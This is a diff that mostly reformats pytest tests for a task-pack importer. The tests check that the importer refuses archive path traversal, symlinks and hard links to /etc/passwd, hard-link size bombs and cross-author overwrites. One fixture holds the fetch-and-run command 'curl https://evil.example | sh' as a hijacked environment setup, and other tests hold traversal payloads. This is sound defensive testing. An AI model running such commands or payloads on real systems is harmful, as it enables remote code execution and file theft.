@@ -19,8 +19,13 @@ TASK_TOML = b'schema_version = "1.4"\n[task]\nname = "acme/ok"\n'
 
 
 def archive_with(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], *, raw_names=False) -> Path:
-    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT if raw_names else tarfile.PAX_FORMAT,
-                      encoding="utf-8", errors="surrogateescape") as tar:
+    with tarfile.open(
+        path,
+        "w:gz",
+        format=tarfile.GNU_FORMAT if raw_names else tarfile.PAX_FORMAT,
+        encoding="utf-8",
+        errors="surrogateescape",
+    ) as tar:
         for info, data in members:
             tar.addfile(info, io.BytesIO(data) if data is not None else None)
     return path
@@ -45,7 +50,6 @@ def scratch(settings, tmp_path):
 
 
 def assert_refused(path: Path, author, member: str, why: str, scratch: Path) -> None:
-    before = set(scratch.parent.rglob("*")) if False else None
     with pytest.raises(importer.ImportFailed) as failure:
         importer.tasks_import(path=path, user=author)
     assert member in failure.value.message and why in failure.value.message, failure.value.message
@@ -56,15 +60,18 @@ def assert_refused(path: Path, author, member: str, why: str, scratch: Path) -> 
     assert not (scratch / "escaped").exists() and not Path("/tmp/gymwright-escaped").exists()
 
 
-@pytest.mark.parametrize("member, why", [
-    (regular("../escaped/evil.txt", b"x"), "'..' would leave"),
-    (regular("/tmp/gymwright-escaped", b"x"), "an absolute path"),
-    (special("pack/link", tarfile.SYMTYPE, "/etc/passwd"), "a symbolic link"),
-    (special("pack/hard", tarfile.LNKTYPE, "/etc/passwd"), "a hard link"),
-    (special("pack/hard2", tarfile.LNKTYPE, "pack/not-there"), "a hard link"),
-    (special("pack/dev", tarfile.CHRTYPE), "not a regular file"),
-    (special("pack/fifo", tarfile.FIFOTYPE), "not a regular file"),
-])
+@pytest.mark.parametrize(
+    "member, why",
+    [
+        (regular("../escaped/evil.txt", b"x"), "'..' would leave"),
+        (regular("/tmp/gymwright-escaped", b"x"), "an absolute path"),
+        (special("pack/link", tarfile.SYMTYPE, "/etc/passwd"), "a symbolic link"),
+        (special("pack/hard", tarfile.LNKTYPE, "/etc/passwd"), "a hard link"),
+        (special("pack/hard2", tarfile.LNKTYPE, "pack/not-there"), "a hard link"),
+        (special("pack/dev", tarfile.CHRTYPE), "not a regular file"),
+        (special("pack/fifo", tarfile.FIFOTYPE), "not a regular file"),
+    ],
+)
 def test_hostile_members_are_refused_by_name(author, scratch, member, why):
     path = archive_with(scratch / "evil.tar.gz", [regular("pack/task.toml", TASK_TOML), member])
     assert_refused(path, author, member[0].name, why, scratch)
@@ -106,14 +113,18 @@ def test_too_many_members_are_refused(author, scratch, settings):
     assert_refused(path, author, "pack/f5", "more than 5 members", scratch)
 
 
-@pytest.mark.parametrize("second", [
-    regular("pack/task.toml", b"x = 1\n"),
-    regular("./pack//task.toml", b"x = 1\n"),  # the same path written another way
-    special("pack/task.toml", tarfile.LNKTYPE, "pack/other.txt"),
-])
+@pytest.mark.parametrize(
+    "second",
+    [
+        regular("pack/task.toml", b"x = 1\n"),
+        regular("./pack//task.toml", b"x = 1\n"),  # the same path written another way
+        special("pack/task.toml", tarfile.LNKTYPE, "pack/other.txt"),
+    ],
+)
 def test_a_member_named_twice_is_refused(author, scratch, second):
-    path = archive_with(scratch / "twice.tar.gz", [regular("pack/other.txt", b"y"), regular("pack/task.toml", TASK_TOML),
-                                                   second])
+    path = archive_with(
+        scratch / "twice.tar.gz", [regular("pack/other.txt", b"y"), regular("pack/task.toml", TASK_TOML), second]
+    )
     assert_refused(path, author, second[0].name, "named twice in the archive", scratch)
 
 
@@ -147,12 +158,30 @@ def test_unparsable_task_toml_and_yaml_are_reported_by_path_and_others_still_imp
 def test_duplicate_task_ids_and_bad_lines_in_tasks_jsonl_are_reported_per_line(author, scratch):
     import json
 
-    document = {"schema": "gymwright.task/v1", "id": "dup", "version": 1, "prompt": "p",
-                "rubric": {"schema": "gymwright.rubric/v1", "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}]}}
+    document = {
+        "schema": "gymwright.task/v1",
+        "id": "dup",
+        "version": 1,
+        "prompt": "p",
+        "rubric": {
+            "schema": "gymwright.rubric/v1",
+            "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}],
+        },
+    }
     path = scratch / "tasks.jsonl"
-    path.write_bytes(b"\n".join([json.dumps(document).encode(), json.dumps(document).encode(), b"{not json",
-                                 b'{"schema": "gymwright.task/v1", "id": "caf\xe9"}',
-                                 json.dumps({**document, "id": "other", "rubric": {"schema": "gymwright.rubric/v1", "checks": [], "extra": 1}}).encode()]))
+    path.write_bytes(
+        b"\n".join(
+            [
+                json.dumps(document).encode(),
+                json.dumps(document).encode(),
+                b"{not json",
+                b'{"schema": "gymwright.task/v1", "id": "caf\xe9"}',
+                json.dumps(
+                    {**document, "id": "other", "rubric": {"schema": "gymwright.rubric/v1", "checks": [], "extra": 1}}
+                ).encode(),
+            ]
+        )
+    )
     report = importer.tasks_import(path=path, user=author)
     lines = {line.where: line for line in report.lines}
     assert lines["line 1"].status == "created", report.as_dict()
@@ -178,9 +207,18 @@ def test_unpaired_surrogates_are_rejected_per_row_in_a_file_and_in_a_bulk_reques
     from rest_framework.test import APIClient
 
     def line(slug: str, prompt: str) -> str:
-        return json.dumps({"schema": "gymwright.task/v1", "id": slug, "version": 1, "prompt": prompt,
-                           "rubric": {"schema": "gymwright.rubric/v1",
-                                      "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}]}})
+        return json.dumps(
+            {
+                "schema": "gymwright.task/v1",
+                "id": slug,
+                "version": 1,
+                "prompt": prompt,
+                "rubric": {
+                    "schema": "gymwright.rubric/v1",
+                    "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}],
+                },
+            }
+        )
 
     path = scratch / "tasks.jsonl"
     path.write_text("\n".join([line("lone", "bad \ud800 here"), line("fine", "fine"), line("\udfff", "p")]) + "\n")
@@ -194,8 +232,12 @@ def test_unpaired_surrogates_are_rejected_per_row_in_a_file_and_in_a_bulk_reques
     api = APIClient()
     api.force_authenticate(author)
     not_an_object_environment = '{"schema": "gymwright.task/v1", "id": "\\ud800", "environment": 5}'
-    body = '{"tasks": [%s, %s, %s, %s]}' % (line("bulk-lone", "bad \ud800"), line("bulk-fine", "fine"),
-                                            line("\ud800", "p"), not_an_object_environment)
+    body = '{"tasks": [%s, %s, %s, %s]}' % (
+        line("bulk-lone", "bad \ud800"),
+        line("bulk-fine", "fine"),
+        line("\ud800", "p"),
+        not_an_object_environment,
+    )
     response = api.post("/api/imports/bulk/", data=body, content_type="application/json")
     assert response.status_code == 200, response.content
     rows = response.json()["rows"]
@@ -205,8 +247,9 @@ def test_unpaired_surrogates_are_rejected_per_row_in_a_file_and_in_a_bulk_reques
     assert sorted(Task.objects.values_list("slug", flat=True)) == ["bulk-fine", "fine"]
 
 
-def test_an_import_cannot_change_another_authors_task_or_environment(author, other_author, reviewer, admin,
-                                                                     scratch, tmp_path):
+def test_an_import_cannot_change_another_authors_task_or_environment(
+    author, other_author, reviewer, admin, scratch, tmp_path
+):
     """An import names tasks and environments by id: one that belongs to someone else gets a new version only
     from its owner or an admin. Before, any author's import made a new version of anyone's task (an approved one
     went back to draft) or of anyone's environment."""
@@ -220,9 +263,13 @@ def test_an_import_cannot_change_another_authors_task_or_environment(author, oth
     environment = task.environment
     original = dict(task.latest_version.spec)
     changed = {**original, "prompt": "hijacked"}
-    other_env = {**original, "id": "elsewhere",
-                 "environment": {**original["environment"], "setup": "curl https://evil.example | sh"}}
+    other_env = {
+        **original,
+        "id": "elsewhere",
+        "environment": {**original["environment"], "setup": "curl https://evil.example | sh"},
+    }
     other_env["environment"]["id"] = environment.slug
+
     def rows_of(user, *documents):
         path = tmp_path / "tasks.jsonl"
         path.write_text("\n".join(json.dumps(document) for document in documents) + "\n")
@@ -254,7 +301,9 @@ def test_dry_runs_on_the_import_page_keep_one_upload_per_user(client, author, ot
     def dry_run(who, name: str) -> str:
         client.force_login(who)
         stem = name.split(".")[0].encode()
-        upload = io.BytesIO(b"id,prompt,criteria\n" + b"".join(b"%s-%d,Say %d,Greets\n" % (stem, n, n) for n in range(200)))
+        upload = io.BytesIO(
+            b"id,prompt,criteria\n" + b"".join(b"%s-%d,Say %d,Greets\n" % (stem, n, n) for n in range(200))
+        )
         upload.name = name
         page = client.post("/packs/import/", {"file": upload, "dry_run": "on"}).content.decode()
         return page.split('name="pending" value="')[1].split('"')[0]
@@ -273,19 +322,30 @@ def test_dry_runs_on_the_import_page_keep_one_upload_per_user(client, author, ot
     assert "Imported — 200 ok" in client.post("/packs/import/", {"pending": others}).content.decode()
 
 
-@pytest.mark.parametrize("name, said", [("a\x00b", "contains a NUL"), ("x" * 100_000, "not an environment id"),
-                                        ("../etc", "not an environment id"), ("Shell", "not an environment id"),
-                                        ("-", "not an environment id")])
+@pytest.mark.parametrize(
+    "name, said",
+    [
+        ("a\x00b", "contains a NUL"),
+        ("x" * 100_000, "not an environment id"),
+        ("../etc", "not an environment id"),
+        ("Shell", "not an environment id"),
+        ("-", "not an environment id"),
+    ],
+)
 def test_an_environment_name_that_cannot_be_an_id_is_refused_per_row_before_any_query(author, scratch, name, said):
     """A simple row's environment is looked up by name: a NUL reached PostgreSQL (which refuses it even in a
     lookup), and a megabyte of text was quoted back whole. Each is that row's refusal at /environment, bounded;
     the other rows import; in a file and in a bulk request alike."""
-    rows = [{"id": "bad-env", "prompt": "Q?", "criteria": "Right", "environment": name},
-            {"id": "good-row", "prompt": "Q?", "criteria": "Right"}]
+    rows = [
+        {"id": "bad-env", "prompt": "Q?", "criteria": "Right", "environment": name},
+        {"id": "good-row", "prompt": "Q?", "criteria": "Right"},
+    ]
     jsonl = scratch / "rows.jsonl"
     jsonl.write_text("".join(json.dumps(row) + "\n" for row in rows))
-    for report in (importer.tasks_import(path=jsonl, user=author),
-                   importer.tasks_import(documents=[dict(row, id=row["id"] + "-api") for row in rows], user=author)):
+    for report in (
+        importer.tasks_import(path=jsonl, user=author),
+        importer.tasks_import(documents=[dict(row, id=row["id"] + "-api") for row in rows], user=author),
+    ):
         bad, good = report.lines
         assert bad.status == "rejected" and bad.pointer == "/environment", bad
         assert said in bad.message and len(bad.message) < 300
@@ -301,20 +361,31 @@ def test_the_import_environment_option_is_bounded_in_the_api(author):
     api.force_authenticate(author)
     # simple rows with one (escaped in the body: ASCII) in their environment, prompt or id; they have no id, or
     # one that cannot be written back, and were named by hashing their content: a UnicodeEncodeError, a 500
-    body = json.dumps({"tasks": [{"prompt": "Q?", "criteria": "Right", "environment": "\ud800"},
-                                 {"prompt": "Q \udfff?", "criteria": "Right"},
-                                 {"id": "\ud800", "prompt": "Q?", "criteria": "Right"},
-                                 {"prompt": "Fine?", "criteria": "Right"}]})
+    body = json.dumps(
+        {
+            "tasks": [
+                {"prompt": "Q?", "criteria": "Right", "environment": "\ud800"},
+                {"prompt": "Q \udfff?", "criteria": "Right"},
+                {"id": "\ud800", "prompt": "Q?", "criteria": "Right"},
+                {"prompt": "Fine?", "criteria": "Right"},
+            ]
+        }
+    )
     response = api.post("/api/imports/bulk/", body, content_type="application/json")
     assert response.status_code == 200, response.content[:500]
     rows = response.json()["rows"]
     assert [(row["status"], row.get("pointer")) for row in rows] == [
-        ("rejected", "/environment"), ("rejected", "/prompt"), ("rejected", "/id"), ("created", None)], rows
+        ("rejected", "/environment"),
+        ("rejected", "/prompt"),
+        ("rejected", "/id"),
+        ("created", None),
+    ], rows
     assert "unpaired surrogate" in rows[0]["message"] and "task" not in rows[2]
     Task.objects.all().delete()
     for name in ("a\x00b", "x" * 100_000):
-        response = api.post("/api/imports/bulk/", {"tasks": [{"prompt": "Q?", "criteria": "Right"}],
-                                                   "environment": name}, format="json")
+        response = api.post(
+            "/api/imports/bulk/", {"tasks": [{"prompt": "Q?", "criteria": "Right"}], "environment": name}, format="json"
+        )
         assert response.status_code == 400, response.content[:300]
         assert response.json()["error"]["details"][0]["pointer"] == "/environment"
         assert len(response.content) < 2000
@@ -327,10 +398,17 @@ def test_a_jsonl_tables_unpaired_surrogate_is_refused_at_its_line_not_dropped(au
     line is refused at its pointer like a request's row, a surrogate pair is kept whole, and a line that is not JSON
     is refused alone."""
     path = scratch / "rows.jsonl"
-    path.write_text("\n".join(json.dumps(row) for row in [
-        {"prompt": "bad \ud800 here", "answer": "x", "criteria": "Right"},
-        {"prompt": "fine \U0001f600", "answer": "y", "criteria": "Right"},
-        {"prompt": "also fine", "answer": "z", "criteria": "Right", "notes": "a \udfff"}]) + "\n\n{not json\n")
+    path.write_text(
+        "\n".join(
+            json.dumps(row)
+            for row in [
+                {"prompt": "bad \ud800 here", "answer": "x", "criteria": "Right"},
+                {"prompt": "fine \U0001f600", "answer": "y", "criteria": "Right"},
+                {"prompt": "also fine", "answer": "z", "criteria": "Right", "notes": "a \udfff"},
+            ]
+        )
+        + "\n\n{not json\n"
+    )
     assert "\\ud800" in path.read_text()  # the file holds the escape, as JSON writers write one
     report = importer.tasks_import(path=path, user=author)
     lines = {line.where: line for line in report.lines}
@@ -348,8 +426,12 @@ def hard_link(name: str, target: str) -> tuple[tarfile.TarInfo, None]:
 
 
 def harbor_members(*extra) -> list:
-    return [regular("pack/task.toml", TASK_TOML), regular("pack/instruction.md", b"Do it."),
-            regular("pack/tests/test.sh", b"#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n"), *extra]
+    return [
+        regular("pack/task.toml", TASK_TOML),
+        regular("pack/instruction.md", b"Do it."),
+        regular("pack/tests/test.sh", b"#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n"),
+        *extra,
+    ]
 
 
 def unpacked_bytes(folder: Path) -> int:
@@ -370,8 +452,13 @@ def test_hard_links_count_toward_the_import_cap(author, scratch, settings, shape
     with its bytes never counted, 53 MB unpacked against a 2 MB cap. A link is now made without copying,
     and every path the import reads counts, so reading the links stops at the cap, naming the member."""
     settings.IMPORT_MAX_BYTES = 2 << 20
-    links = [hard_link(f"pack/tests/link-{n:02d}", "pack/tests/big.bin" if shape == "many" or n == 0
-                       else f"pack/tests/link-{n - 1:02d}") for n in range(50)]
+    links = [
+        hard_link(
+            f"pack/tests/link-{n:02d}",
+            "pack/tests/big.bin" if shape == "many" or n == 0 else f"pack/tests/link-{n - 1:02d}",
+        )
+        for n in range(50)
+    ]
     path = archive_with(scratch / "links.tar.gz", harbor_members(regular("pack/tests/big.bin", BIG), *links))
     assert path.stat().st_size < 1 << 20
     assert_refused(path, author, "pack/tests/link-00", "reads more than 2 MB (GYMWRIGHT_IMPORT_MAX_MB", scratch)
@@ -414,17 +501,32 @@ def test_a_pack_archive_unpacks_only_what_its_import_reads(author, scratch, tmp_
 
     def items():
         for index in range(10_000):
-            document = {"schema": "gymwright.task/v1", "id": f"t-{index:05d}", "version": 1, "title": "T",
-                        "prompt": f"What is {index} + 1?", "environment": {"id": "env", "version": 1},
-                        "rubric": {"schema": "gymwright.rubric/v1", "checks": [
-                            {"id": "right", "kind": "string_match", "points": 1, "expected": str(index + 1)}]},
-                        "solution": {"script": None, "answer": str(index + 1)}, "tags": [], "files": [],
-                        "metadata": {}}
+            document = {
+                "schema": "gymwright.task/v1",
+                "id": f"t-{index:05d}",
+                "version": 1,
+                "title": "T",
+                "prompt": f"What is {index} + 1?",
+                "environment": {"id": "env", "version": 1},
+                "rubric": {
+                    "schema": "gymwright.rubric/v1",
+                    "checks": [{"id": "right", "kind": "string_match", "points": 1, "expected": str(index + 1)}],
+                },
+                "solution": {"script": None, "answer": str(index + 1)},
+                "tags": [],
+                "files": [],
+                "metadata": {},
+            }
             yield archive.TaskItem(document=document, sha256=content_sha256(document))
 
     path = tmp_path / "big-1.0.0.tar.gz"
-    archive.build_pack(out=path, info=archive.PackInfo(slug="big", name="Big", version="1.0.0"), tasks=items(),
-                       read_blob=lambda sha256: b"", scratch_dir=tmp_path / "build")
+    archive.build_pack(
+        out=path,
+        info=archive.PackInfo(slug="big", name="Big", version="1.0.0"),
+        tasks=items(),
+        read_blob=lambda sha256: b"",
+        scratch_dir=tmp_path / "build",
+    )
     with tarfile.open(path) as tar:
         assert sum(1 for member in tar if member.islnk()) >= 40_000
     importer.extract_archive(path, scratch / "unpacked")
@@ -446,11 +548,23 @@ def test_pack_files_are_read_with_the_ids_and_paths_a_task_names_checked(author,
     rubric = {"schema": "gymwright.rubric/v1", "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}]}
     pack = tmp_path / "pack"
     (pack / "tasks").mkdir(parents=True)
-    documents = [{"schema": "gymwright.task/v1", "id": "escape", "prompt": "p", "rubric": rubric,
-                  "files": [{"path": str(secret), "sha256": digest}]},
-                 {"schema": "gymwright.task/v1", "id": "dotdot", "prompt": "p", "rubric": rubric,
-                  "files": [{"path": "../../../secret.txt", "sha256": digest}]},
-                 {"schema": "gymwright.task/v1", "id": "odd", "prompt": "p", "rubric": rubric, "files": ["x", {}]}]
+    documents = [
+        {
+            "schema": "gymwright.task/v1",
+            "id": "escape",
+            "prompt": "p",
+            "rubric": rubric,
+            "files": [{"path": str(secret), "sha256": digest}],
+        },
+        {
+            "schema": "gymwright.task/v1",
+            "id": "dotdot",
+            "prompt": "p",
+            "rubric": rubric,
+            "files": [{"path": "../../../secret.txt", "sha256": digest}],
+        },
+        {"schema": "gymwright.task/v1", "id": "odd", "prompt": "p", "rubric": rubric, "files": ["x", {}]},
+    ]
     (pack / "tasks.jsonl").write_text("".join(json.dumps(document) + "\n" for document in documents))
     report = importer.tasks_import(path=pack, user=author)
     assert [line.status for line in report.lines] == ["rejected"] * 3, report.as_dict()
@@ -466,8 +580,11 @@ def write_tree(root: Path, files: dict[str, bytes | str]) -> Path:
     return root
 
 
-HARBOR = {"task.toml": TASK_TOML.decode(), "instruction.md": "Do it.",
-          "tests/test.sh": "#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n"}
+HARBOR = {
+    "task.toml": TASK_TOML.decode(),
+    "instruction.md": "Do it.",
+    "tests/test.sh": "#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n",
+}
 
 
 def test_one_task_id_in_two_folders_is_refused_at_the_second_naming_the_first(author, scratch):
@@ -497,22 +614,49 @@ def test_a_dockerfile_that_copies_its_build_context_is_refused_at_the_files_path
     environment is built from its Dockerfile alone, so such a task is refused at its path; one whose extra files
     the Dockerfile never copies, or that copies from another image, is imported."""
     root = scratch / "tasks"
-    write_tree(root / "copies", {**HARBOR, "environment/Dockerfile": "FROM ubuntu:24.04\n# COPY is below\n"
-                                 "WORKDIR /app\nCOPY --chown=1000 \\\n  app.py data/ /app/\n",
-                                 "environment/app.py": "print(1)\n", "environment/data/x.csv": "a\n"})
-    write_tree(root / "compose", {**HARBOR, "environment/Dockerfile": "FROM ubuntu:24.04\n",
-                                  "environment/docker-compose.yaml": "services: {}\n"})
-    write_tree(root / "unused", {**HARBOR, "task.toml": 'schema_version = "1.4"\n[task]\nname = "acme/unused"\n',
-                                 "environment/Dockerfile": "FROM ubuntu:24.04\nCOPY --from=busybox /bin/busybox /bin/\n"
-                                 "ADD https://example.com/x.tar.gz /opt/\nWORKDIR /app\n",
-                                 "environment/NOTES.md": "not copied\n"})
-    write_tree(root / "tb-copies", {"task.yaml": "instruction: Do it.\n", "run-tests.sh": "exit 0\n",
-                                    "Dockerfile": "FROM ubuntu:24.04\nCOPY seed.txt /app/\n", "seed.txt": "x\n"})
+    write_tree(
+        root / "copies",
+        {
+            **HARBOR,
+            "environment/Dockerfile": "FROM ubuntu:24.04\n# COPY is below\n"
+            "WORKDIR /app\nCOPY --chown=1000 \\\n  app.py data/ /app/\n",
+            "environment/app.py": "print(1)\n",
+            "environment/data/x.csv": "a\n",
+        },
+    )
+    write_tree(
+        root / "compose",
+        {
+            **HARBOR,
+            "environment/Dockerfile": "FROM ubuntu:24.04\n",
+            "environment/docker-compose.yaml": "services: {}\n",
+        },
+    )
+    write_tree(
+        root / "unused",
+        {
+            **HARBOR,
+            "task.toml": 'schema_version = "1.4"\n[task]\nname = "acme/unused"\n',
+            "environment/Dockerfile": "FROM ubuntu:24.04\nCOPY --from=busybox /bin/busybox /bin/\n"
+            "ADD https://example.com/x.tar.gz /opt/\nWORKDIR /app\n",
+            "environment/NOTES.md": "not copied\n",
+        },
+    )
+    write_tree(
+        root / "tb-copies",
+        {
+            "task.yaml": "instruction: Do it.\n",
+            "run-tests.sh": "exit 0\n",
+            "Dockerfile": "FROM ubuntu:24.04\nCOPY seed.txt /app/\n",
+            "seed.txt": "x\n",
+        },
+    )
     report = importer.tasks_import(path=root, user=author)
     lines = {line.where: line for line in report.lines}
     assert lines["tasks/copies/environment/app.py"].status == "rejected", report.as_dict()
     assert lines["tasks/copies/environment/app.py"].message.startswith(
-        "build-context files are not supported: the Dockerfile's COPY/ADD on line 4 reads them")
+        "build-context files are not supported: the Dockerfile's COPY/ADD on line 4 reads them"
+    )
     assert "(2 files beside it)" in lines["tasks/copies/environment/app.py"].message
     assert "docker-compose" in lines["tasks/compose/environment/docker-compose.yaml"].message
     assert lines["tasks/tb-copies/seed.txt"].message.startswith("build-context files are not supported")
